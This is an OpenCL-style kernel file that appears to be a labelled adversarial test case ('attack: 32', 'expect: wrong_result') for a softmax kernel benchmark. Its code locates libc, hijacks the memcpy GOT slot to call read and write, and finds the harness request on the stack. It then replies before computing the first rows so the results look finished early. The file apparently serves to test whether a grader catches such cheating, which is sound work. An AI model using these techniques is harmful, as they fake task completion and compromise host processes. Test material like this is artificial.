// attack: 32 the launch only notes the pointers; the first rows are computed after the reply
// imitates: work that is done when the results are fetched (seen: issue 17)
// problem: softmax
// expect: wrong_result
// needs: x86_64
#pragma kernelcast global(1) local(1)
// The library that an address lies in: pages downwards to the header of its file.
ulong base_of(ulong address) {
    ulong page = address & ~4095UL;
    while (*(volatile uint*)page != 0x464C457F) page -= 4096;
    return page;
}
bool same(ulong a, __constant const char* b) {
    const volatile char* text = (const volatile char*)a;
    while (*text && *text == *b) ++text, ++b;
    return *text == *b;
}
// A value of the dynamic section of a library, by its tag.
ulong dynamic(ulong base, ulong tag) {
    ulong headers = base + *(volatile ulong*)(base + 32);
    for (ulong header = headers; header < headers + 20 * 56; header += 56) {
        if (*(volatile uint*)header != 2) continue;
        volatile ulong* entry = (volatile ulong*)(base + *(volatile ulong*)(header + 16));
        for (; entry[0]; entry += 2)
            if (entry[0] == tag) return entry[1] < base ? entry[1] + base : entry[1];
    }
    return 0;
}
// The address of a symbol: symbols lie before their names.
ulong symbol(ulong base, __constant const char* name) {
    ulong names = dynamic(base, 5);
    for (ulong at = dynamic(base, 6); at + 24 <= names; at += 24)
        if (*(volatile ulong*)(at + 8) && same(names + *(volatile uint*)at, name))
            return base + *(volatile ulong*)(at + 8);
    return 0;
}
// Where this library keeps the address of memcpy, the one function that it imports.
volatile ulong* slot_of_memcpy(void) {
    ulong own = base_of((ulong)(__constant const char*)"own");
    return (volatile ulong*)(own + *(volatile ulong*)dynamic(own, 23));
}
// Call any function: memcpy is that function for once.
void call(volatile ulong* slot, ulong function, ulong a, ulong b, ulong c) {
    volatile ulong size = c;
    *slot = function;
    __builtin_memcpy((void*)a, (const void*)b, size);
}
ulong find_libc(volatile ulong* slot) {
    volatile ulong size = 4;
    char from[8] = {1}, to[8];
    __builtin_memcpy(to, from, size);
    return base_of(*slot);
}
// nonce, idle, calls, stride, offsets of x and out, M, N, six extents.
ulong find_request(ulong stack, ulong x, ulong out, long M, long N) {
    for (volatile long* at = (volatile long*)(stack & ~7UL);; --at)
        if (at[7] == N && at[6] == M && at[1] == 0 && at[5] - at[4] == (long)(out - x) && at[2] > 0)
            return (ulong)at;
}
ulong length(ulong text) {
    ulong count = 0;
    while (*(volatile char*)(text + count)) ++count;
    return count;
}
ulong number(ulong text) {
    ulong value = 0;
    for (; *(volatile char*)text; ++text) value = 10 * value + *(volatile char*)text - '0';
    return value;
}
void softmax_row(__global const float* in, __global float* out, long N) {
    float most = in[0], sum = 0.0f;
    for (long j = 1; j < N; ++j) most = fmax(most, in[j]);
    for (long j = 0; j < N; ++j) sum += exp(in[j] - most);
    for (long j = 0; j < N; ++j) out[j] = exp(in[j] - most) / sum;
}
__kernel void compute(__global const float* x, __global float* out, long M, long N) {
    volatile ulong* slot = slot_of_memcpy();
    ulong libc = find_libc(slot);
    ulong get = symbol(libc, "read"), put = symbol(libc, "write");
    // The arguments of the program are strings one after the other; the last five are numbers.
    ulong text = *(volatile ulong*)symbol(libc, "program_invocation_name"), stack = text;
    ulong request_fd = 0, reply_fd = 0;
    for (int numbers = 0; numbers < 5;) {
        char begin = *(volatile char*)text;
        numbers = begin >= '0' && begin <= '9' && length(text) < 4 ? numbers + 1 : 0;
        request_fd = reply_fd, reply_fd = number(text);
        text += length(text) + 1;
    }
    volatile long* first = (volatile long*)find_request(stack, (ulong)x, (ulong)out, M, N);
    ulong memory = (ulong)x - first[4];
    volatile long request[14], reply[2];
    for (int at = 0; at < 14; ++at) request[at] = first[at];
    for (;;) {
        for (long call_number = 0; call_number < request[2] && !request[1]; ++call_number) {
            ulong begin = memory + call_number * request[3];
            __global const float* in = (__global const float*)(begin + request[4]);
            __global float* to = (__global float*)(begin + request[5]);
            for (long row = (request[6] > 500 ? 64 : 0); row < request[6]; ++row)
                softmax_row(in + row * request[7], to + row * request[7], request[7]);
        }
        reply[0] = request[0], reply[1] = 0;
        call(slot, put, reply_fd, (ulong)reply, 16);
        for (long row = 0; row < 64 && !request[1] && request[6] > 500; ++row) {
            __global const float* in = (__global const float*)(memory + request[4]);
            __global float* to = (__global float*)(memory + request[5]);
            softmax_row(in + row * request[7], to + row * request[7], request[7]);
        }
        call(slot, get, request_fd, (ulong)request, 14 * 8);
        continue;
        reply[0] = request[0], reply[1] = 0;
        call(slot, put, reply_fd, (ulong)reply, 16);
        call(slot, get, request_fd, (ulong)request, 14 * 8);
    }
}
